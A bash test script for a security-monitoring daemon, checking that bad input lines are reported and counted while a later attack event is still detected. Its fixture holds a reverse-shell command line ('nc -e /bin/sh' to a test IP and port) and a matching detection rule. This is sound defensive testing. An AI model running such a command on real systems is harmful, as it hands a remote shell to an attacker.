#!/bin/bash
# Bad input never stops the daemon: each malformed, non-object, unknown-kind or over-long
# line gets one FILE:LINE message and is counted; the attack after them is still detected.
. "$(dirname "$0")/lib.sh"
need_jq
cat >"$TMP/r.wt" <<'WT'
rule test.nc_exec { on exec when process.basename == "nc" and process.args contains "-e" severity high output "nc -e in {workspace.id}" }
WT
"$WTC" compile -o "$TMP/r.wtb" "$TMP/r.wt" || exit 99
good='{"process_exec":{"process":{"exec_id":"bjE6MTox","pid":1,"binary":"/usr/bin/nc","arguments":"-e /bin/sh 203.0.113.9 4444"}},"node_name":"n1","time":"2026-10-14T10:00:00Z"}'
{
	echo 'not json at all'
	echo '[1,2,3]'
	echo '{"process_exec":{"process":{"binary":"/bin/x"'
	echo '{"process_loader":{"process":{}},"time":"2026-10-14T10:00:00Z"}'
	echo ''
	printf '\x00\x01\xff garbage\n'
	echo '{"process_exec":{},"time":"not a time"}'
	printf '{"process_exec":{"process":{"binary":"%s"}}}\n' "$(head -c 5000000 /dev/zero | tr '\0' a)"
	echo "$good"
} >"$TMP/bad.jsonl"
"$WTD" --rules "$TMP/r.wtb" --replay "$TMP/bad.jsonl" >"$TMP/out" 2>"$TMP/err"
rc=$?
[ $rc -eq 0 ] && pass "exit status 0 after bad input" || fail "exit status $rc"
grep -v '^worktraced: summary' "$TMP/err" | sed "s#$TMP/##" >"$TMP/msgs"
cat >"$TMP/want" <<'MSG'
bad.jsonl:1: line is not a JSON object
bad.jsonl:2: line is not a JSON object
bad.jsonl:3: invalid JSON: JSON document ended early in the middle of an object or array.
bad.jsonl:4: unknown event kind "process_loader" skipped
bad.jsonl:6: invalid JSON: The input is not valid UTF-8
bad.jsonl:7: field "time" is not an RFC 3339 timestamp
bad.jsonl:8: line longer than 4194304 bytes skipped
MSG
if diff -u "$TMP/want" "$TMP/msgs" >"$TMP/diff"; then pass "one FILE:LINE message per bad line"; else fail "messages"; cat "$TMP/diff"; fi
if grep -q 'summary: lines=9 events=1 exec=1 malformed=5 unknown_kind=1 too_long=1 ' "$TMP/err"; then
	pass "bad lines counted"
else
	fail "summary counts: $(grep summary "$TMP/err")"
fi
if [ "$(jq -r .rule "$TMP/out")" = "test.nc_exec" ]; then pass "attack after the bad lines detected"; else fail "attack not detected"; fi
# stdin input and an unreadable input
"$WTD" --rules "$TMP/r.wtb" --replay - <"$TMP/bad.jsonl" >"$TMP/out2" 2>"$TMP/err2"
grep -q '^<stdin>:2: line is not a JSON object' "$TMP/err2" && pass "stdin replay names <stdin>" || fail "stdin replay"
"$WTD" --rules "$TMP/r.wtb" --replay "$TMP/nonexistent" 2>"$TMP/err3"
rc=$?
[ $rc -eq 74 ] && grep -q 'No such file' "$TMP/err3" && pass "missing input: exit 74 with message" || fail "missing input: rc $rc"
# live input through a pipe: a threat is written while the pipe is still open
(echo "$good"; sleep 4) | "$WTD" --rules "$TMP/r.wtb" --replay - >"$TMP/live.out" 2>/dev/null &
sleep 2
[ "$(grep -c '' "$TMP/live.out")" -eq 1 ] && pass "live pipe: threat written before the input ends" || fail "live pipe: threat held back"
wait
# SIGTERM while waiting for input: clean stop, exit 0
mkfifo "$TMP/fifo"
(sleep 20 >"$TMP/fifo" &)
"$WTD" --rules "$TMP/r.wtb" --replay "$TMP/fifo" >/dev/null 2>"$TMP/fifo.err" &
pid=$!
sleep 1
kill -TERM $pid
wait $pid
rc=$?
[ $rc -eq 0 ] && grep -q 'summary: lines=0' "$TMP/fifo.err" && pass "SIGTERM while waiting on a FIFO: exit 0" || fail "SIGTERM on FIFO: exit $rc"
pkill -f "sleep 20" 2>/dev/null
# threat records that cannot be written are an error, not silence
"$WTD" --rules "$TMP/r.wtb" --replay "$TMP/bad.jsonl" >/dev/full 2>"$TMP/full.err"
rc=$?
[ $rc -eq 74 ] && grep -q 'writing threat records failed: No space left on device' "$TMP/full.err" &&
	pass "output to a full device: exit 74 with a message" || fail "output to /dev/full: exit $rc"
"$WTD" --rules "$TMP/r.wtb" --replay /dev/null --queue-size 0 2>"$TMP/opt.err"
rc=$?
[ $rc -eq 64 ] && grep -q "invalid value '0' for --queue-size (expected 2 to 16777216)" "$TMP/opt.err" &&
	pass "bad option value named with its range" || fail "option error: $(cat "$TMP/opt.err")"
# lines crossing the reader's buffer boundaries: a generated 6 MB capture is read whole
"$WT_BUILDDIR/bench/gencapture" 6 7 >"$TMP/gen.jsonl"
n=$(grep -c '' "$TMP/gen.jsonl")
"$WTD" --rules "$TMP/r.wtb" --replay "$TMP/gen.jsonl" >/dev/null 2>"$TMP/err4"
grep -q "summary: lines=$n events=$n .* malformed=0 unknown_kind=0 too_long=0 " "$TMP/err4" &&
	pass "6 MB capture: all $n lines across buffer boundaries" || fail "buffer boundaries: $(cat "$TMP/err4")"
finish
